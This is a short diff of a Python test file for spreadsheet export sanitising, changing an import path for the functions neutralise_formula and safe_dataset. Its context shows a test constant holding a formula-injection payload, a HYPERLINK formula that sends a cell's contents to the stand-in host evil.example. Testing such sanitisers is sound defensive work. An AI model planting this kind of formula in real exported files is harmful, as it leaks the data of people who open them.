@@ -8,7 +8,7 @@ import openpyxl
 import pytest
 from django.urls import reverse
 
-from kokeilu.tables import neutralise_formula, safe_dataset
+from core.tables import neutralise_formula, safe_dataset
 from tests.factories.staffing import AllocationFactory
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'
